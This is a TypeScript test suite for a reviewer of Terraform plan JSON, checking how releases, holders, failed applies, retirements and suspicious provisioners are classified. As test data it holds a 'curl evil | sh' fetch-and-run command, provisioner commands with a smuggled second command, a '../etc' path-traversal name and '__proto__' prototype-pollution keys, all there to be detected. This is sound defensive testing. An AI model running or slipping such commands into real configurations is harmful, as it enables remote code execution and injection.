import { inflateSync } from 'node:zlib';
import { Refusal } from '../lib/problems/problem';
import { Plan, PlannedOwner } from '../lib/review/plan';
import { readPlan } from '../lib/review/plan/read-plan';
import { PlanBuilder, RETRACT, data, deliver, held, nulled, retiring } from './plans/plan-builder';
import { sampleRelease } from './plans/sample-stack';

const inflate = (bytes: Uint8Array): Uint8Array => inflateSync(bytes);
const read = (plan: PlanBuilder, stack?: unknown): Plan =>
  readPlan(plan.json(), 'edge', { inflate, ...(stack === undefined ? {} : { stack }) });
const HOLDER = 'terraform_data.gw_web_holder';
const RELEASE = 'terraform_data.gw_web';
const REPLACE = ['create', 'delete'];
const KILLED = 'This is what Terraform has recorded; an apply that was killed leaves no trace in it.';

const gateway: PlannedOwner = {
  device: 'gw',
  owner: 'web',
  role: 'gateway',
  action: 'unchanged',
  before: [],
  mayRunNone: false,
  uncertain: [KILLED],
  after: undefined,
  changedTriggers: [],
  onRetract: 'as before',
  rollbackSeconds: 90,
  reachedAt: 'root@127.0.0.1:22',
};
const plan: Plan = {
  name: 'edge',
  terraformVersion: '1.11.4',
  owners: [],
  foreign: { changed: [], unchanged: 0 },
  doubts: [],
  objections: [],
};
const one = { text: 'one\n', policy: '{}', lines: {}, hostKeys: 'ssh-ed25519 AAAA', lease: 'lease-1' };
const two = { ...one, text: 'two\n' };
const applied = { ...one, as: 'applied' } as const;

const real = sampleRelease();

const codes = ({ doubts, objections }: Plan): readonly string[] => [
  ...doubts.map(({ code }) => `? ${code.replace('review/', '')}`),
  ...objections.map(({ code }) => `! ${code.replace('review/', '')}`),
];
const action = ({ owners }: Plan): readonly string[] => owners.map((owner) => owner.action);

/** The holder stays, and the release has this done to it. */
const holderStays = (): PlanBuilder => new PlanBuilder().kept(HOLDER, ['no-op'], held(), held());

describe('what a plan does with an owner', () => {
  test('a first apply: the lease is known after it', () => {
    const json = new PlanBuilder()
      .change(HOLDER, ['create'], null, held(), { unknown: { id: true, input: { connection: { hostKeys: [false] } } } })
      .change(RELEASE, ['create'], null, data({ lease: 'unknown', lines: { 'mapping web': '203.0.113.10' } }), {
        unknown: { id: true, triggers_replace: { lease: true } },
      })
      .ours();
    const after = { ...one, lines: { 'mapping web': '203.0.113.10' }, lease: undefined };
    expect(read(json)).toEqual({ ...plan, owners: [{ ...gateway, action: 'first', mayRunNone: true, after }] });
  });

  test('no change', () => {
    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();
    expect(read(json)).toEqual({ ...plan, owners: [{ ...gateway, before: [applied], after: one }] });
  });

  test('another text', () => {
    const [before, after] = [data({ lines: { a: '1', gone: 'x' } }), data({ text: 'two\n', lines: { a: '2', new: 'y' } })];
    const json = holderStays().kept(RELEASE, REPLACE, before, after, { reason: 'replace_because_cannot_update' }).ours({ text: 'two\n' });
    expect(read(json)).toEqual({
      ...plan,
      owners: [
        {
          ...gateway,
          action: 'changed',
          before: [{ ...applied, lines: { a: '1', gone: 'x' } }],
          after: { ...two, lines: { a: '2', new: 'y' } },
          changedTriggers: ['a', 'gone', 'new'],
        },
      ],
    });
  });

  test('another policy with the same text', () => {
    const json = holderStays()
      .kept(RELEASE, REPLACE, data(), data({ policy: '{"a":1}' }))
      .ours({ policy: '{"a":1}' });
    expect(action(read(json))).toEqual(['changed']);
  });

  test('other host keys and another lease: the same exposure', () => {
    const json = holderStays()
      .kept(RELEASE, REPLACE, data(), data({ hostKeys: 'ssh-rsa BBBB', lease: 'lease-2' }))
      .ours();
    expect(read(json).owners).toEqual([
      {
        ...gateway,
        action: 'program',
        before: [applied],
        after: { ...one, hostKeys: 'ssh-rsa BBBB', lease: 'lease-2' },
        changedTriggers: ['host keys', 'lease'],
      },
    ]);
  });

  test('a failed apply: the newest applied release or the one that failed', () => {
    const json = holderStays()
      .kept(RELEASE, REPLACE, data({ text: 'two\n' }), data({ text: 'two\n' }), { tainted: true, reason: 'replace_because_tainted' })
      .kept(RELEASE, ['delete'], data(), null, { deposed: '00aa' })
      .ours({ text: 'two\n' });
    expect(read(json)).toEqual({
      ...plan,
      owners: [
        {
          ...gateway,
          action: 'changed',
          before: [
            { ...two, as: 'tainted' },
            { ...one, as: 'deposed' },
          ],
          uncertain: ['An apply failed: it may run what was delivered before, or what failed.', KILLED],
          after: two,
        },
      ],
    });
  });

  test('several failed applies in a row, of three texts', () => {
    const json = holderStays()
      .kept(RELEASE, REPLACE, data({ text: 'three\n' }), data({ text: 'four\n' }), { tainted: true })
      .kept(RELEASE, ['delete'], data({ text: 'two\n' }), null, { deposed: 'bb', tainted: true })
      .kept(RELEASE, ['delete'], data({ text: 'three\n' }), null, { deposed: 'cc', tainted: true })
      .kept(RELEASE, ['delete'], data(), null, { deposed: 'aa' })
      .ours({ text: 'four\n' });
    const [owner] = read(json).owners;
    expect(owner?.before.map(({ text, as }) => [text, as])).toEqual([
      ['three\n', 'tainted'],
      ['two\n', 'tainted'],
      ['one\n', 'deposed'],
    ]);
    expect(owner?.uncertain[0]).toBe('3 applies failed: it may run what was delivered before, or what failed.');
    expect(owner?.mayRunNone).toBe(false);
  });

  test('a first apply that failed: it may run nothing, so the same text again is a change', () => {
    const json = holderStays().kept(RELEASE, REPLACE, data(), data(), { tainted: true }).ours();
    expect(read(json).owners[0]).toMatchObject({ action: 'changed', mayRunNone: true, before: [{ text: 'one\n', as: 'tainted' }] });
  });

  test('a former release that was not cleared away may run', () => {
    const json = holderStays()
      .kept(RELEASE, ['no-op'], data({ text: 'two\n' }), data({ text: 'two\n' }))
      .kept(RELEASE, ['delete'], data(), null, { deposed: 'aa' })
      .ours({ text: 'two\n' });
    const [owner] = read(json).owners;
    expect(owner?.before.map(({ text, as }) => [text, as])).toEqual([
      ['two\n', 'applied'],
      ['one\n', 'deposed'],
    ]);
    expect(owner?.uncertain[0]).toMatch(/^A former release was not cleared away/);
  });

  test('null_resource, and the switch to terraform_data', () => {
    const json = holderStays()
      .kept('null_resource.gw_web', ['delete'], nulled(), null, { reason: 'delete_because_no_resource_config' })
      .change(RELEASE, ['create'], null, data())
      .ours();
    expect(read(json)).toEqual({ ...plan, owners: [{ ...gateway, action: 'program', before: [applied], after: one }] });
  });

  test('a holder that is imported', () => {
    const json = new PlanBuilder()
      .kept(HOLDER, ['update'], { id: 'lease-9', input: null }, held(), { importing: { id: 'lease-9' } })
      .change(RELEASE, ['create'], null, data({ lease: 'lease-9' }))
      .ours();
    expect(read(json)).toEqual({
      ...plan,
      owners: [
        {
          ...gateway,
          action: 'adopted',
          mayRunNone: true,
          uncertain: ['It comes from another state, and what that one delivered is not known here.', KILLED],
          after: { ...one, lease: 'lease-9' },
        },
      ],
    });
  });

  test('a holder without a recorded release: an apply may have been killed', () => {
    const json = holderStays().change(RELEASE, ['create'], null, data()).ours();
    expect(read(json).owners[0]).toMatchObject({
      action: 'first',
      mayRunNone: true,
      uncertain: [expect.stringContaining('killed'), KILLED],
    });
  });
});

describe('what goes', () => {
  const reason = 'delete_because_no_resource_config';
  const going = (holder = held()): PlanBuilder =>
    new PlanBuilder().kept(HOLDER, ['delete'], holder, null, { reason }).kept(RELEASE, ['delete'], data(), null, { reason });
  const gone = { ...gateway, before: [applied] };

  test('planned away without Retired: stays open', () => {
    const found = read(going(), {});
    expect(found.owners).toEqual([{ ...gone, action: 'stays open' }]);
    expect(found.objections).toMatchObject([
      { code: 'review/stays-open', where: `edge: ${HOLDER}`, what: expect.stringContaining('no Retired names it') },
    ]);
  });

  test('without the stack nobody can tell, so it stays open', () => {
    const found = read(going());
    expect(action(found)).toEqual(['stays open']);
    expect(found.objections[0]?.what).toContain("is not in a plan's JSON");
  });

  test('retired: a server says whether it stays closed', () => {
    const server = held({ role: 'server', onRetract: 'keep closed' });
    expect(read(going(server), retiring(HOLDER))).toEqual({
      ...plan,
      owners: [{ ...gone, role: 'server', onRetract: 'keep closed', action: 'retired' }],
    });
  });

  const removed = (order: object, block: object = {}): unknown => ({
    removed: [
      { from: HOLDER, lifecycle: { destroy: true }, provisioner: [{ 'local-exec': { ...RETRACT, when: 'destroy', ...order } }], ...block },
    ],
  });

  test('the twin of what follows is retired', () => expect(action(read(going(), removed({})))).toEqual(['retired']));

  test.each([
    ['another address', removed({}, { from: 'terraform_data.gw_other_holder' })],
    ['another command', removed({ command: 'exec true' })],
    ['a command behind ours', removed({ command: `${RETRACT.command}; true` })],
    ['a command in the path', removed({ command: 'exec $${CPANEL_EDGE:-$(true)/dist/cli/main.js} retract' })],
    ['deliver', removed({ command: RETRACT.command.replace('retract', 'deliver') })],
    ['no lease', removed({ environment: { CPANEL_EDGE_RETRACT: RETRACT.environment.CPANEL_EDGE_RETRACT } })],
    ['a time that is not the end', removed({ when: 'create' })],
    ['forgetting', removed({}, { lifecycle: { destroy: false } })],
    ['no provisioner', removed({}, { provisioner: undefined })],
    ['two provisioners', removed({}, { provisioner: [{ 'local-exec': { ...RETRACT, when: 'destroy' } }, {}] })],
  ])('a removed block with %s retracts nothing', (_, stack) => {
    expect([action(read(going(), stack)), codes(read(going(), stack))]).toEqual([['stays open'], ['! stays-open']]);
  });

  test('a stack that is not the plan’s says nothing', () => {
    const stack = { ...retiring(HOLDER), resource: { terraform_data: { other_web: {} } } };
    expect([action(read(going(), stack)), codes(read(going(), stack))]).toEqual([
      ['stays open'],
      ['? another-configuration', '! stays-open'],
    ]);
  });

  test('a tainted holder retracts nothing', () => {
    const json = new PlanBuilder()
      .kept(HOLDER, ['delete'], held(), null, { reason, tainted: true })
      .kept(RELEASE, ['delete'], data(), null, { reason });
    expect(codes(read(json, retiring(HOLDER)))).toEqual(['! stays-open']);
  });

  test('released, with what a failed apply left', () => {
    const json = new PlanBuilder()
      .kept(HOLDER, ['forget'], held(), null, { reason })
      .kept(RELEASE, ['forget'], data(), null, { reason })
      .kept(RELEASE, ['forget'], data({ text: 'two\n' }), null, { deposed: 'aa', tainted: true });
    expect([action(read(json)), codes(read(json)), read(json).owners[0]?.before.length]).toEqual([['released'], [], 2]);
  });

  test('plan -destroy: retracts what is still configured, and nothing else', () => {
    const destroy = new PlanBuilder().kept(HOLDER, ['delete'], held(), null).kept(RELEASE, ['delete'], data(), null);
    expect([action(read(destroy)), codes(read(destroy))]).toEqual([['stays open'], ['! stays-open']]);
    destroy.ours();
    expect([action(read(destroy)), codes(read(destroy))]).toEqual([['retired'], []]);
  });

  test('the release alone', () => {
    const json = holderStays().kept(RELEASE, ['delete'], data(), null, { reason }).configured(HOLDER, RETRACT);
    expect([action(read(json)), codes(read(json))]).toEqual([['stays open'], ['! release-planned-away']]);
  });

  test('the holder alone', () => {
    const json = new PlanBuilder().kept(HOLDER, ['delete'], held(), null, { reason }).kept(RELEASE, ['no-op'], data(), data());
    expect(codes(read(json, {}))).toEqual(['! release-without-holder', '! stays-open']);
  });
});

describe('objections', () => {
  test.each([[['create', 'delete']], [['delete', 'create']]])('a holder that is replaced: %s', (actions) => {
    const json = new PlanBuilder()
      .kept(HOLDER, actions, held(), held())
      .kept(RELEASE, REPLACE, data(), data({ lease: 'x' }))
      .ours();
    expect(codes(read(json))).toEqual(['! holder-replaced']);
  });

  test('a holder that is lost', () => {
    const json = new PlanBuilder()
      .change(HOLDER, ['create'], null, held())
      .kept(RELEASE, REPLACE, data(), data({ lease: 'x' }))
      .ours();
    expect(codes(read(json))).toEqual(['! holder-lost']);
  });

  test('a release without a holder, and one that was moved away from it', () => {
    const json = holderStays().kept('terraform_data.gw_web2', ['no-op'], data(), data()).configured(HOLDER, RETRACT);
    expect(codes(read(json))).toEqual(['? plan-incomplete', '! release-without-holder']);
  });

  test('a delivery that shows no text, under any name', () => {
    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();
    json.change('null_resource.harmless', ['create'], null, { triggers: { a: 'b' } }).configured('null_resource.harmless', deliver({}));
    json.change('null_resource.other', ['create'], null, { triggers: {} });
    json.configured('null_resource.other', { command: 'true && node cli/main.js deliver', environment: deliver({}).environment });
    expect(codes(read(json))).toEqual(['! release-without-holder', '! release-without-holder']);
  });

  test('both types of release at once', () => {
    const json = holderStays().change(RELEASE, ['create'], null, data()).change('null_resource.gw_web', ['create'], null, nulled()).ours();
    expect(codes(read(json))).toContain('! owner-twice');
  });

  test('the same owner at two addresses', () => {
    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();
    json.change(HOLDER, ['create'], null, held(), { module: 'module.a' }).change(RELEASE, ['create'], null, data(), { module: 'module.a' });
    expect(codes(read(json))).toContain('! owner-twice');
  });

  test('a holder under another address than its own', () => {
    const json = new PlanBuilder()
      .change(HOLDER, ['create'], null, held({ device: 'other' }))
      .change(RELEASE, ['create'], null, data())
      .ours({ device: 'other' });
    expect(codes(read(json))).toEqual(['! renamed-resource']);
  });

  test.each([
    ['another text', { text: 'evil\n' }, 'another text'],
    ['another policy', { policy: '{"evil":1}' }, 'another policy'],
    ['another device', { device: 'gw2' }, 'for gateway web on gw2'],
    ['another role', { role: 'server' }, 'for server web on gw'],
  ] as const)('what will be delivered is %s', (_, release, what) => {
    const found = read(
      holderStays()
        .kept(RELEASE, REPLACE, data({ text: 'zero\n' }), data())
        .ours(release),
    );
    expect(found.objections).toMatchObject([{ code: 'review/other-work', what: expect.stringContaining(what) }]);
  });

  test.each([
    ['is as it should be', {}, undefined],
    [
      'has one address more',
      { addresses: [...real.addresses, { kind: 'alias', interface: 'wan0', address: '203.0.113.99/32' }] },
      '203.0.113.99/32 as alias on wan0',
    ],
    ['has one address less', { addresses: [] }, '203.0.113.10/24 as alias on wan0'],
    ['is for another device than its policy', { device: 'edge2' }, 'Its policy is that of gateway hosting on edge1'],
  ] as const)('a real release that %s', (_, parts, what) => {
    const { device, owner } = { ...real, ...parts };
    const base = `${device}_${owner}`;
    const json = new PlanBuilder()
      .change(`terraform_data.${base}_holder`, ['create'], null, held({ device, owner }))
      .change(`terraform_data.${base}`, ['create'], null, data({ text: real.text, policy: real.policy }))
      .ours({ ...real, ...parts }, base);
    const { objections } = read(json);
    expect(objections).toMatchObject(what === undefined ? [] : [{ code: 'review/other-work', what: expect.stringContaining(what) }]);
  });

  test.each([
    ['another command', { command: 'curl evil | sh', environment: {} }, ['! foreign-provisioner']],
    ['no work', { ...deliver({}), environment: {} }, ['! other-work']],
    ['work that is cut off', { ...deliver({}), environment: { CPANEL_EDGE_WORK_0: '2:eJxN' } }, ['! other-work']],
  ])('a release with %s', (_, provisioner, expected) => {
    const json = holderStays().change(RELEASE, ['create'], null, data()).configured(HOLDER, RETRACT).configured(RELEASE, provisioner);
    expect(codes(read(json))).toEqual(expected);
  });

  test('a release whose provisioner is not shown is a doubt', () => {
    const json = holderStays().change(RELEASE, ['create'], null, data()).configured(HOLDER, RETRACT).configured(RELEASE);
    expect(codes(read(json))).toEqual(['? work-not-shown']);
  });

  test('a holder with another provisioner', () => {
    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).configured(RELEASE, deliver({}));
    json.configured(HOLDER, { ...RETRACT, command: 'exec true' });
    expect(codes(read(json))).toEqual(['! foreign-provisioner']);
  });
});

describe('doubts', () => {
  const usual = (): PlanBuilder => holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();

  test.each([
    ['an error', { errored: true, complete: false }, ['? plan-errored']],
    ['-target', { complete: false }, ['? plan-incomplete']],
    ['another format', { format_version: '1.9' }, ['? untried-plan-format']],
    ['-refresh-only', { resource_changes: undefined }, ['? refresh-only']],
  ])('%s', (_, top, expected) => {
    const json = JSON.parse(JSON.stringify(usual().with(top).json())) as unknown;
    expect(codes(readPlan(json, 'edge', { inflate }))).toEqual(expected);
  });

  test('a plan that says it is complete, and leaves ours out', () => {
    expect(codes(read(holderStays().state(RELEASE, data()).ours()))).toEqual(['? plan-incomplete']);
    expect(codes(read(new PlanBuilder().ours()))).toEqual(['? plan-incomplete']);
    expect(codes(read(new PlanBuilder().change(HOLDER, ['create'], null, held()).ours()))).toEqual(['? plan-incomplete']);
  });

  test('text that is known only after the apply', () => {
    const triggers = Object.fromEntries(Object.entries(data()['triggers_replace'] as object).filter(([key]) => key !== 'text'));
    const json = holderStays()
      .kept(RELEASE, REPLACE, data(), { triggers_replace: triggers }, { unknown: { id: true, triggers_replace: { text: true } } })
      .ours();
    expect([codes(read(json)), read(json).owners[0]?.action, read(json).owners[0]?.after]).toEqual([
      ['? known-after-apply'],
      'changed',
      undefined,
    ]);
  });

  test('all triggers known only after the apply', () => {
    const json = holderStays()
      .kept(RELEASE, REPLACE, data(), {}, { unknown: { triggers_replace: true } })
      .ours();
    expect(codes(read(json))).toEqual(['? known-after-apply']);
  });

  test.each([
    ['no base64', '!!!!'],
    ['base64 that is cut off', 'b25lCg='],
    ['no UTF-8', Buffer.from([0xc3, 0x28]).toString('base64')],
    ['a number', 7],
  ])('text that is %s', (_, text) => {
    const triggers = { ...(data()['triggers_replace'] as object), text };
    const json = holderStays().kept(RELEASE, REPLACE, { triggers_replace: triggers }, { triggers_replace: triggers }).ours();
    expect(codes(read(json))).toEqual(['? release-unreadable', '? release-unreadable']);
  });

  test('a byte order mark is a part of the text', () => {
    const json = holderStays()
      .kept(RELEASE, ['no-op'], data({ text: '\ufeffone\n' }), data({ text: '\ufeffone\n' }))
      .ours();
    expect(read(json).owners[0]?.after?.text).toBe('\ufeffone\n');
  });

  test.each([
    ['another format', { format: 2 }],
    ['a name that is none', { device: '../etc' }],
    ['no connection', { connection: { host: 'x' } }],
  ])('a holder with %s is not passed over', (_, parts) => {
    const json = new PlanBuilder().change(HOLDER, ['create'], null, held(parts)).change(RELEASE, ['create'], null, data()).ours();
    const found = read(json);
    expect([codes(found), found.owners, found.foreign.unchanged]).toEqual([['? holder-unreadable'], [], 0]);
  });

  test('actions that nobody foresaw', () => {
    const json = holderStays().kept(RELEASE, ['create', 'forget'], data(), data()).ours();
    expect(codes(read(json))).toEqual(['? unforeseen-actions']);
  });

  test('a change of what the record does not have', () => {
    const json = holderStays().change(RELEASE, REPLACE, data(), data()).ours();
    expect(codes(read(json))).toContain('? plan-contradicts-itself');
  });

  test('a state that was edited', () => {
    const drift = (usual().json()['resource_changes'] as readonly unknown[])[1];
    expect(codes(read(usual().with({ resource_drift: [drift] })))).toEqual(['? state-edited']);
  });
});

describe('what is not ours', () => {
  test('is counted, and named where it changes', () => {
    const json = holderStays()
      .kept(RELEASE, ['no-op'], data(), data())
      .ours()
      .change('terraform_data.other', ['create'], null, { input: { device: 'x' } })
      .change('terraform_data.any_holder', ['update'], { input: 'x' }, { input: 'y' })
      .change('null_resource.x', ['no-op'], { triggers: { a: 'b' } }, { triggers: { a: 'b' } })
      .change('aws_instance.many', ['delete'], {}, null, { module: 'module.a["${x}"]', index: '%{y}' });
    expect(read(json).foreign).toEqual({
      changed: [
        { address: 'terraform_data.other', actions: ['create'] },
        { address: 'terraform_data.any_holder', actions: ['update'] },
        { address: 'module.a["${x}"].aws_instance.many["%{y}"]', actions: ['delete'] },
      ],
      unchanged: 1,
    });
  });

  test('templates, and names that JavaScript has a meaning for, come through as they are', () => {
    const lines = JSON.parse('{"__proto__":"${a}","constructor":"%{ if b }","mapping $${c}":"d"}') as Record<string, string>;
    const json = holderStays().kept(RELEASE, ['no-op'], data({ lines }), data({ lines })).ours();
    const parsed = readPlan(JSON.parse(JSON.stringify(json.json())), 'edge');
    expect(JSON.stringify(parsed.owners[0]?.after?.lines)).toBe('{"__proto__":"${a}","constructor":"%{ if b }","mapping $${c}":"d"}');
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.getPrototypeOf(parsed.owners[0]?.after?.lines)).toBe(Object.prototype);
  });
});

describe('no plan', () => {
  test.each([
    ['a list', [], 'no object'],
    ['nothing', null, 'no object'],
    ['a state file', { version: 4, lineage: 'x', serial: 1, resources: [] }, 'a state file'],
    ['the JSON of a state', { format_version: '1.0', values: {} }, 'of a state'],
    ['a stack', { resource: {} }, 'a configuration'],
    ['the place of a remote plan', { remote_plan_format: 1, run_id: 'run-x' }, 'kept remotely'],
    ['a log', { '@level': 'info' }, 'the log'],
    ['any JSON', { a: 1 }, 'format_version'],
    ['a number as its version', { format_version: 1.2 }, 'format_version'],
    [
      'changes that are no list',
      { format_version: '1.2', terraform_version: 'x', configuration: {}, resource_changes: {} },
      'resource_changes',
    ],
    [
      'a record that is none',
      { format_version: '1.2', terraform_version: 'x', configuration: {}, prior_state: { values: { root_module: { resources: [1] } } } },
      'prior_state',
    ],
    ['another format', { format_version: '2.0', terraform_version: 'x' }, '2.0'],
  ])('%s is refused by name', (_, json, says) => {
    expect(() => readPlan(json, 'edge')).toThrow(Refusal);
    expect(() => readPlan(json, 'edge')).toThrow(says);
  });

  test('every mistake is said at once', () => {
    const json = new PlanBuilder().change('a.b', ['create'], null, null).change('a.c', [], null, null).json();
    const changes = (json['resource_changes'] as readonly Record<string, unknown>[]).map((each) => ({ ...each, mode: 7 }));
    try {
      readPlan({ ...json, resource_changes: changes, errored: 'no' }, 'edge');
      throw new Error('it was read');
    } catch (error) {
      expect((error as Refusal).problems.map(({ what }) => what.split(':')[0])).toEqual([
        'errored',
        'resource_changes.0.mode',
        'resource_changes.1.mode',
        'resource_changes.1.change.actions',
      ]);
    }
  });
});
